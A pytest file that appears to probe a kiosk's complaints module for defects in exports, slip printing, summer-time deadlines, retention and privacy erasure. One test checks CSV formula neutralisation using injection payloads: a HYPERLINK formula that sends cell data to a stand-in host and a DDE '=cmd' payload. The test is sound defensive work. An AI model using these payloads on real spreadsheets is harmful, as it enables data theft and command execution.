"""Outside attack on issue 12 (complaints and service requests): cases the authors had not tried.

Each failing test is a defect, its docstring says what a user would see. The passing ones document what held.
"""
from __future__ import annotations

import csv
import sqlite3
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest

from kiosk.complaints import monthly, rules, service, slips
from kiosk.complaints.topics import topic_key
from kiosk.core.audit import Actor
from kiosk.core.clock import parse_iso
from kiosk.printing import queue
from tests.complaints.common import SH, STAFF, TZ, set_local, taker

MANAGER = Actor("Wang Jun", None, "manager")
take = taker(kind="complaint", category="facilities", responsibility="company", what="电梯坏了", place="3号楼")


def _log_row(db, year, month, lang="en"):
    from kiosk.reports.export import collect
    from kiosk.reports.logs import COMPLAINTS
    start, end = monthly.month_bounds(year, month, TZ)
    log = collect(db, [COMPLAINTS], start, end, TZ, lang)[0]
    keys = [c.key for c in log.columns]
    return [dict(zip(keys, row)) for row in log.rows]


# --- 1. the exported log after a "not resolved" attempt -------------------------------------------------------
def test_export_after_a_not_resolved_attempt_shows_the_real_resolution(db, clock):
    """A clerk first records "not resolved — waiting for parts", then the real fix half an hour later. The
    register, the screen and the monthly figures say *Resolved* with a callback due in 2 working days; the
    daily export and the monthly XLSX's complaints sheet still say *Not resolved*, resolved at the attempt's
    time, "what was done: waiting for parts" and no callback due: the files contradict the figures beside them."""
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="丁", customer_contact="13800138000")
    clock.set(clock.now() + timedelta(minutes=5))
    service.resolve(db, clock, STAFF, TZ, cid, "not_resolved", "waiting for parts")
    clock.set(clock.now() + timedelta(minutes=30))
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "fixed")
    c = service.get(db, cid)
    assert (c.outcome, c.callback_required) == ("resolved", True)
    assert monthly.build(db, clock, 2026, 11, TZ).by_outcome == {"resolved": 1}
    [row] = _log_row(db, 2026, 11)
    assert row["outcome_code"] == "resolved"
    assert row["what_was_done"] == "fixed"
    assert row["resolved_at"] == datetime(2026, 11, 2, 10, 35)
    assert row["callback_due"] is not None


# --- 2. the slip's own series under a failing printer ---------------------------------------------------------
def test_a_second_slip_press_after_a_paper_jam_is_not_a_second_numbered_original(db, clock):
    """The printer jams on the slip; the clerk presses "Print slip" again. The jammed job stays queued for
    retry and a second original with a new number is queued too: when the printer is back the customer gets
    two slips, T01-Q-000001 and T01-Q-000002, for one complaint, neither marked as a copy, and the complaint
    slip series counts presses, not slips given out."""
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="丁", customer_contact="13800138000")
    first = slips.print_slip(db, clock, STAFF, "T01", cid, "en")
    queue.mark(db, clock, first, "failed", "paper jam")
    slips.print_slip(db, clock, STAFF, "T01", cid, "en")
    jobs = queue.for_record(db, "complaints", cid)
    originals = [j for j in jobs if j.reprint_of is None and j.status in ("queued", "held", "printing")]
    assert len(originals) == 1, [(j.receipt_no, j.status, j.reprint_of) for j in jobs]
    assert len({j.receipt_no for j in jobs}) == 1


# --- 3. a site in a zone with summer time, a round-the-clock desk ----------------------------------------------
@pytest.mark.parametrize("taken_utc, expected_hours", [
    (datetime(2026, 3, 29, 0, 30, tzinfo=timezone.utc), 2),    # 01:30 CET, clocks go forward at 02:00
    (datetime(2026, 10, 25, 0, 30, tzinfo=timezone.utc), 2),   # 02:30 CEST, clocks go back at 03:00
])
def test_two_hours_is_two_hours_across_a_summer_time_change(db, clock, taken_utc, expected_hours):
    """A round-the-clock desk (00:00-24:00, calendar days) at a site configured for Europe/Berlin: a general
    complaint taken in the night the clocks change gets 1 hour (spring) or 3 hours (autumn) instead of its
    2 hours to be resolved: deadlines are counted in wall-clock minutes, not elapsed ones (aware datetimes of
    one tzinfo subtract and add naively)."""
    assert rules.save_rules(db, clock, MANAGER, {**rules.rule_texts(db), "work_start": "00:00", "work_end": "24:00",
                                                 "complaint_days": "calendar"})
    clock.set(taken_utc)
    c = service.get(db, service.take(db, clock, STAFF, "Europe/Berlin", kind="complaint", category="facilities",
                                     responsibility="company", what="电梯坏了", place="3号楼"))
    assert parse_iso(c.resolve_due) - taken_utc == timedelta(hours=expected_hours)
    assert parse_iso(c.start_due) - taken_utc == timedelta(minutes=10)


# --- 4. five customers on one matter, typed as desks type it --------------------------------------------------
NEAR_DUPLICATES = ("停水", "今天停水了", "家里停水", "全楼停水", "自来水停了")


def test_near_duplicate_water_outage_topics_fold_to_one_matter():
    """Five residents report the same water outage; the clerks type "停水", "今天停水了" (today), "家里停水"
    (at home), "全楼停水" (whole building) and "自来水停了" (tap water stopped). Each folds to its own key, so
    the kiosk never proposes the outage as major ("five or more customers on the same matter")."""
    assert {t: topic_key(t) for t in NEAR_DUPLICATES} == {t: "停水" for t in NEAR_DUPLICATES}


def test_five_customers_typing_near_duplicates_are_proposed(db, clock):
    """The same as the fold above, end to end: five customers within an hour, no proposal on the banner."""
    set_local(clock, 2026, 11, 2, 9)
    for n, topic in enumerate(NEAR_DUPLICATES):
        take(db, clock, topic=topic, customer_name=f"住户{n}", customer_contact=f"1380013800{n}")
        clock.set(clock.now() + timedelta(minutes=10))
    assert [p.reason for p in service.escalation_proposals(db, clock)] == ["five_customers"]


# --- what held ------------------------------------------------------------------------------------------------
def test_held_events_and_rows_are_append_only_at_the_database(db, clock):
    """Held: the database itself refuses edits and deletes of complaints and their events (only the
    anonymising update may touch a complaint row)."""
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="丁", customer_contact="13800138000")
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "fixed")
    for sql in ("UPDATE complaint_events SET note = 'x'", "DELETE FROM complaint_events",
                "UPDATE complaints SET resolve_due = '2030-01-01'", "DELETE FROM complaints",
                "UPDATE complaints SET customer_name = '', customer_contact = '', what = '', anonymised_at = 'x',"
                " category = 'noise'"):
        with pytest.raises(sqlite3.DatabaseError):
            db.execute(sql)


def test_held_formula_text_in_every_field_is_neutralised_in_the_csv_exports(db, clock, tmp_path):
    """Held: =HYPERLINK, full-width ＝, @, + and - expressions typed into name, contact, what, place, topic and
    what-was-done come out of the daily CSV with a guard apostrophe (and the monthly CSV quotes none of them)."""
    from datetime import date
    from kiosk.reports.export import run_export
    from kiosk.reports.complaints_month import export_month
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="＝1+1", customer_contact="+1-1", what=evil, place="@SUM(A1)",
               topic="-2+3")
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "=cmd|' /C calc'!A0")
    set_local(clock, 2026, 12, 2, 10)
    run_export(db, clock, first=date(2026, 11, 2), last=date(2026, 11, 2), tz_name=TZ, destination=tmp_path,
               formats=["csv"], lang="en", actor=MANAGER)
    export_month(db, clock, MANAGER, TZ, year=2026, month=11, destination=tmp_path, formats=["csv"], lang="en")
    cells = []
    for path in tmp_path.rglob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    for text in ("＝1+1", "+1-1", evil, "@SUM(A1)", "-2+3", "=cmd|' /C calc'!A0"):
        assert text not in cells
    assert "'" + evil in cells


# --- 5. the command line's lists ------------------------------------------------------------------------------
def test_cli_list_and_duties_say_deadlines_in_local_time_one_line_each(db_path, db, clock):
    """`kiosk complaints list` and `kiosk complaints duties` print a Shanghai complaint taken at 10:00 as
    "start by 2026-11-02T02:10" (the stored UTC moment, 8 hours off the 10:10 the screen and the slip say),
    and a complaint text typed on two lines breaks the tab-separated line in two (a second line that starts
    with the rest of the customer's words)."""
    from click.testing import CliRunner
    from kiosk.cli.main import main
    set_local(clock, 2026, 11, 2, 10)
    take(db, clock, what="楼上漏水\n已经三天", customer_name="丁")
    listed = CliRunner().invoke(main, ["complaints", "list", "--db", str(db_path)])
    assert listed.exit_code == 0, listed.output
    assert "10:10" in listed.output and "12:00" in listed.output, listed.output
    assert len(listed.output.strip().splitlines()) == 1, listed.output
    due = CliRunner().invoke(main, ["complaints", "duties", "--db", str(db_path)])
    assert "10:10" in due.output, due.output
    assert len(due.output.strip().splitlines()) == 2, due.output  # start and resolve, one line each


# --- 6. a complaint opened from a call note later -------------------------------------------------------------
def test_a_complaint_opened_from_a_call_note_hours_later_keeps_the_calls_deadlines(db, clock):
    """A resident rings at 10:00 to complain; the clerk notes it as a complaint but opens the complaint from
    the note only at 13:00. The kiosk starts the 10 minutes and the 2 hours at 13:00: the complaint shows
    "start by 13:10, resolve by 15:00", nothing is late, and the monthly on-time rates count it on time,
    although the customer complained three hours before (the deadlines run from when it was taken by the
    desk, i.e. the call)."""
    from kiosk.phone import calllog
    set_local(clock, 2026, 11, 17, 10)
    note = calllog.add_note(db, clock, STAFF, call_id=None, category="complaint", what="楼道灯坏了一周",
                            caller_name="王小明", caller_number="13800138000", place="5-302")
    set_local(clock, 2026, 11, 17, 13)
    cid = service.take(db, clock, STAFF, TZ, responsibility="company", **service.from_call_note(db, note))
    c = service.get(db, cid)
    assert parse_iso(c.start_due).astimezone(SH) == datetime(2026, 11, 17, 10, 10, tzinfo=SH)
    assert parse_iso(c.resolve_due).astimezone(SH) == datetime(2026, 11, 17, 12, 0, tzinfo=SH)


# --- 7. retention while the complaint is still open -----------------------------------------------------------
def test_retention_keeps_the_contact_of_a_complaint_whose_callback_is_still_owed(db, clock):
    """A complaint from November 2025 was resolved, but the customer could not be reached; the callback is
    still on today's duties a year later. The daily retention job blanks the name and contact anyway: the
    duty says "call the customer back" and the complaint says "Personal details erased" — nobody can be
    called (retention counts from taken_at whatever the complaint still owes)."""
    from kiosk.reports import duties
    set_local(clock, 2025, 11, 3, 10)
    cid = take(db, clock, customer_name="丁", customer_contact="13800138000")
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "换了灯泡")
    set_local(clock, 2025, 11, 4, 10)
    service.record_callback(db, clock, STAFF, cid, "unreachable")
    set_local(clock, 2026, 11, 5, 10)
    assert [d.kind for d in duties.today(db, clock) if d.record_id == cid] == ["complaint_callback"]
    service.apply_retention(db, clock)
    c = service.get(db, cid)
    assert c.customer_contact == "13800138000" and not c.anonymised


# --- 8. erasing one complaint leaves its call note ---------------------------------------------------------
def test_erasing_a_complaint_from_a_call_also_erases_what_its_detail_shows_of_the_call(db, clock):
    """A complaint opened from a call note; the customer asks to be forgotten and the manager taps "Erase" on
    the complaint. The detail then says "Personal details erased", and right below it "From the call at 10:00
    (13800138000), note 1"; the linked note still holds the caller's name, number and the very words the
    complaint's text was copied from ("王小明说楼道灯坏了"), one tap away in the phone log."""
    from kiosk.phone import calllog
    from kiosk.phone.tracker import CallEvent
    set_local(clock, 2026, 11, 17, 10)
    call_id = calllog.start_call(db, clock, "at")
    calllog.record_event(db, clock, call_id, CallEvent("callerid", 0, 1, number="13800138000", name="王小明"))
    note = calllog.add_note(db, clock, STAFF, call_id=call_id, category="complaint", what="王小明说楼道灯坏了",
                            caller_name="王小明", caller_number="13800138000", place="5-302")
    cid = service.take(db, clock, STAFF, TZ, responsibility="company", **service.from_call_note(db, note))
    service.erase(db, clock, MANAGER, cid)
    assert service.get(db, cid).anonymised
    shown = service.call_of(db, service.get(db, cid).call_note_id)
    assert "13800138000" not in str(shown)
    left = db.execute("SELECT caller_name, caller_number, what FROM call_notes WHERE id = ?", (note,)).fetchone()
    assert not any("王小明" in (v or "") or "13800138000" in (v or "") for v in left), left


# --- 9. a staff close skips the callback ----------------------------------------------------------------------
def test_staff_cannot_close_a_complaint_whose_callback_is_owed(db, clock):
    """A company-responsibility complaint is resolved; the customer must be called back within 2 working days.
    A clerk taps "Close" on its detail (the button is enabled for any resolved complaint): it closes, the
    callback vanishes from today's duties and nobody is reminded; only next month's report shows a late
    callback."""
    from kiosk.reports import duties
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="丁", customer_contact="13800138000")
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "换了灯泡")
    assert [d.kind for d in duties.today(db, clock) if d.record_id == cid] == ["complaint_callback"]
    try:
        service.close(db, clock, STAFF, cid, "done")
    except service.ComplaintError:
        pass
    assert [d.kind for d in duties.today(db, clock) if d.record_id == cid] == ["complaint_callback"]


# --- 10. the slip of a complaint taken as major -----------------------------------------------------------------
def test_the_slip_of_a_complaint_taken_as_major_does_not_promise_two_hours(db, clock):
    """A resident reports an injury at the counter; the clerk marks it "Serious loss or injury" and prints the
    slip. The slip tells the customer "Resolved by 12:00" (the general 2 hours), although the desk is refused
    resolving it until a manager decides and a major complaint has 2 working days (the slip reads the row's
    general resolve_due, not the major deadline it will be held to)."""
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, category="safety", major_reason="serious_loss", customer_name="丁")
    receipt = slips.slip(db, cid, "en", "T01-Q-000001")
    resolved_by = [b.right for b in receipt.blocks if getattr(b, "left", "") == "Resolved by"]
    assert resolved_by != ["2026-11-02 12:00"], resolved_by


# --- what held (continued) --------------------------------------------------------------------------------------
def test_held_monthly_figures_match_a_hand_count_across_month_edges(db, clock):
    """Held: a month built by hand (taken 23:30 on 31 October is October's; 00:30 on Sunday 1 November and
    23:30 on 30 November are November's; a callback first unreachable then reached late; a major one never
    started) gives the counts and on-time rates counted by hand."""
    from kiosk.core.audit import Actor  # noqa: F401
    set_local(clock, 2026, 10, 31, 23, 30)
    take(db, clock)
    set_local(clock, 2026, 11, 1, 0, 30)
    b = take(db, clock, responsibility="assisted", category="service")
    set_local(clock, 2026, 11, 2, 9, 5)
    service.start(db, clock, STAFF, b)
    set_local(clock, 2026, 11, 2, 11, 30)
    service.resolve(db, clock, STAFF, TZ, b, "referred", "转水务公司")
    set_local(clock, 2026, 11, 30, 23, 30)
    a = take(db, clock, category="noise")
    set_local(clock, 2026, 12, 1, 9, 5)
    service.start(db, clock, STAFF, a)
    set_local(clock, 2026, 12, 1, 10, 0)
    service.resolve(db, clock, STAFF, TZ, a, "resolved", "done")
    set_local(clock, 2026, 12, 2, 10, 0)
    service.record_callback(db, clock, STAFF, a, "unreachable")
    set_local(clock, 2026, 12, 4, 10, 0)
    service.record_callback(db, clock, STAFF, a, "satisfied")
    set_local(clock, 2026, 11, 10, 10, 0)
    m = take(db, clock, category="safety", major_reason="serious_loss")
    service.decide_major(db, clock, MANAGER, TZ, m, True)
    set_local(clock, 2026, 12, 10, 10)
    r = monthly.build(db, clock, 2026, 11, TZ)
    assert r.total == 3 and r.by_category == {"service": 1, "noise": 1, "safety": 1}
    assert r.by_outcome == {"referred": 1, "resolved": 1, "open": 1}
    assert r.by_follow_up == {"due": 1, "satisfied": 1}
    assert (r.start.on_time, r.start.due, r.resolve.on_time, r.resolve.due) == (2, 3, 1, 3)
    assert (r.callback.on_time, r.callback.due) == (0, 2)
    assert (r.assisted_resolved, r.assisted_called_back) == (1, 0)
    assert [c.id for c in r.majors] == [m]


def test_held_privacy_erasure_by_phone_finds_a_full_width_contact_and_clears_the_complaint(db, clock):
    """Held: `kiosk privacy erase --phone 13800138000` finds a complaint whose contact was typed in full-width
    digits with spaces, and blanks its name, contact and text, the resolution note naming them and the slip."""
    from kiosk.core import erasure
    set_local(clock, 2026, 11, 2, 10)
    cid = take(db, clock, customer_name="欧阳娜娜", customer_contact="１３８ ００１３ ８０００", what="欧阳娜娜说楼上漏水")
    slips.print_slip(db, clock, STAFF, "T01", cid, "zh_CN")
    service.resolve(db, clock, STAFF, TZ, cid, "resolved", "已联系欧阳娜娜 13800138000")
    erasure.erase(db, clock, MANAGER, erasure.Person(phone="13800138000"), scrub_wait=0)
    row = db.execute("SELECT customer_name, customer_contact, what FROM complaints WHERE id = ?", (cid,)).fetchone()
    assert "欧阳娜娜" not in "".join(row) and "８０００" not in "".join(row)
    notes = [n for (n,) in db.execute("SELECT note FROM complaint_events WHERE complaint_id = ?", (cid,))]
    assert not any("欧阳娜娜" in (n or "") or "13800138000" in (n or "") for n in notes)
    docs = [d for (d,) in db.execute("SELECT document FROM print_jobs WHERE record_table = 'complaints'")]
    assert not any("欧阳" in (d or "") for d in docs)
